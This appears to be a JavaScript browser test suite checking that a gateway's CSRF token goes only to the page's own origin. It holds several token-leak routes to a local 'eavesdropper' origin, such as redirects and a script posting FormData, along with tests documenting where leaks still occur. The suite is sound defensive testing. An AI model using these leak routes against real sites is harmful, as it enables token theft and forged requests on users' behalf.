// The gateway's script in a page: the token goes to the page's own origin, and nowhere else.

import assert from 'node:assert/strict';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';

import { startChromium } from './chromium.mjs';
import { startEavesdropper } from './eavesdropper.mjs';
import { startGateway } from './gateway.mjs';
import { attempt, WAYS } from './pages/gateway-leaks.mjs';
import { startSite } from './site.mjs';

const HEADER = 'x-csrf-token';
const FIELD = 'csrf_token';
const LIMIT = { timeout: 60_000 };

let browser, app, gateway, profile, page, eavesdropper;

before(async () => {
    app = await startSite(answer);
    gateway = await startGateway(app.origin);
    browser = await startChromium();
    profile = await browser.profile();
});
after(async () => {
    await browser?.close();
    await gateway?.stop();
    await app?.close();
});

beforeEach(async () => {
    eavesdropper = await startEavesdropper();
    page = await profile.newPage();
});
afterEach(async () => {
    await Promise.all(profile.pages().map(page => page.close()));
    await eavesdropper.close();
});

async function answer({ pathname, searchParams }) {
    const at = searchParams.get('at');
    const form = (id, action, button = '') => `<form id="${id}" method="post" action="${action}" target="frame">
        <input name="a" value="b"><button ${button}>Send</button></form>`;
    switch (pathname) {
        case '/page':
            return { body: `<!doctype html><title>A shop</title><iframe name="frame"></iframe>
                ${form('turned', '/own', `formaction="${at}"`)}
                ${form('placed', '/own')}
                ${form('elsewhere', at)}` };
        case '/own':
            return { body: 'thank you' };
        case '/away':
            return { status: Number(searchParams.get('status')), headers: { Location: at }, body: '' };
        default:
            return undefined;
    }
}

/** Opens the page behind the gateway; its token, and where to send things. */
async function openPage() {
    const at = `${eavesdropper.origin}/taken`;
    await page.goto(`${gateway.origin}/page?${new URLSearchParams({ at })}`);
    const token = await page.locator('meta[name="csrf-token"]').getAttribute('content');
    assert.match(token, /^[\w-]{40,}$/);
    return { token, at };
}

describe('to the page\'s own origin it goes along', () => {
    const own = {
        'fetch': () => fetch('/own', { method: 'POST' }),
        'fetch of a Request': () => fetch(new Request('own', { method: 'DELETE' })),
        'fetch of a whole URL': () => fetch(`${location.origin}/own`, { method: 'put' }),
        'XMLHttpRequest': () => {
            const request = new XMLHttpRequest();
            request.open('POST', '/own');
            request.send('x');
        },
        'the page\'s form': () => document.querySelector('#placed button').click(),
        'the page\'s form, submitted': () => document.forms.placed.submit(),
        'a form that a script makes': () => {
            const form = document.createElement('form');
            Object.assign(form, { method: 'post', action: '/own', target: 'frame' });
            document.body.append(form);
            form.requestSubmit();
        },
        'a form that a script makes, submitted': () => {
            const form = document.createElement('form');
            Object.assign(form, { method: 'post', action: '/own', target: 'frame' });
            document.body.append(form);
            form.submit();
        },
        'a form that a handler turns back': () => {
            const form = document.querySelector('#elsewhere');
            form.addEventListener('submit', () => form.setAttribute('action', '/own'));
            form.requestSubmit();
        },
    };
    for (const [name, send] of Object.entries(own)) {
        test(name, LIMIT, async () => {
            const { token } = await openPage();
            const [request] = await Promise.all([page.waitForRequest(`${gateway.origin}/own`), page.evaluate(send)]);
            const field = new URLSearchParams(request.postData()).getAll(FIELD);
            const header = (await request.allHeaders())[HEADER];
            assert.deepEqual([...field, header].filter(Boolean), [token]);
        });
    }

    test('unless it is only a read', LIMIT, async () => {
        await openPage();
        const send = () => fetch('/own').then(() => fetch('/own', { method: 'HEAD' }));
        const [request] = await Promise.all([page.waitForRequest(`${gateway.origin}/own`), page.evaluate(send)]);
        assert.equal((await request.allHeaders())[HEADER], undefined);
    });
});

const away = (at, status) => `/away?${new URLSearchParams({ at, status })}`;

describe('to another origin it does not', () => {
    assert.ok(Object.keys(WAYS).length > 30);
    for (const [name, way] of Object.entries(WAYS)) {
        test(name, LIMIT, async () => {
            const { token, at } = await openPage();
            await page.evaluate(attempt, [String(way), eavesdropper.origin, at]);
            await eavesdropper.hears(heard => /^(?!OPTIONS)[A-Z]+ \/taken/m.test(heard));
            assertUnheard(token);
        });
    }

    for (const status of [302, 303, 307, 308]) {
        test(`a fetch that the app sends on with ${status} fails before anything is sent there`, LIMIT, async () => {
            const { at } = await openPage();
            const ended = await page.evaluate(url => fetch(url, { method: 'POST' }).then(() => 'sent', error => error.name),
                away(at, status));
            assert.equal(ended, 'TypeError');
            assert.equal(eavesdropper.heard(), '');
        });
    }

    test('where a browser would need TLS', LIMIT, async () => {
        const { token, at } = await openPage();
        const secure = at.replace('http:', 'https:');
        await page.evaluate(url => fetch(url, { method: 'POST' }).catch(() => {}), secure);
        await eavesdropper.hears(heard => heard !== '');
        assertUnheard(token);
    });
});

// Whom the app itself sends a request on to gets all that was in it, and what a script reads it may send. Here
// the eavesdropper hears the token, so that it would have heard it above.
describe('what it cannot help', () => {
    test('a form that the app sends on with 307 takes its body along', LIMIT, async () => {
        const { token, at } = await openPage();
        await page.evaluate(url => {
            document.forms.placed.setAttribute('action', url);
            document.forms.placed.requestSubmit();
        }, away(at, 307));
        await eavesdropper.hears(heard => heard.includes(token));
    });

    for (const status of [302, 307]) {
        test(`Chromium keeps the header of an XMLHttpRequest that the app sends on with ${status}`, LIMIT, async () => {
            const { token, at } = await openPage();
            await page.evaluate(url => new Promise(done => {
                const request = new XMLHttpRequest();
                request.onloadend = done;
                request.open('POST', url);
                request.send();
            }), away(at, status));
            // It asks there first, and the eavesdropper permits everything.
            await eavesdropper.hears(heard => heard.includes(token));
            assert.match(eavesdropper.heard(), /^OPTIONS \/taken/m);
            assert.match(eavesdropper.heard().toLowerCase(), /access-control-request-headers: x-csrf-token/);
        });
    }

    test('what a script takes out of a form, it can send anywhere', LIMIT, async () => {
        const { token, at } = await openPage();
        await page.evaluate(url => fetch(url, { method: 'POST', body: new FormData(document.forms.placed) }), at);
        await eavesdropper.hears(heard => heard.includes(token));
    });
});

function assertUnheard(token) {
    const heard = eavesdropper.heard();
    assert.ok(!heard.includes(token), heard);
    assert.doesNotMatch(heard.toLowerCase(), new RegExp(HEADER));
    // A page may have a field of that name for somebody else.
    assert.deepEqual(heard.match(new RegExp(`\\b${FIELD}\\b.*`, 'g')) ?? [], heard.match(/csrf_token=theirs/g) ?? []);
}
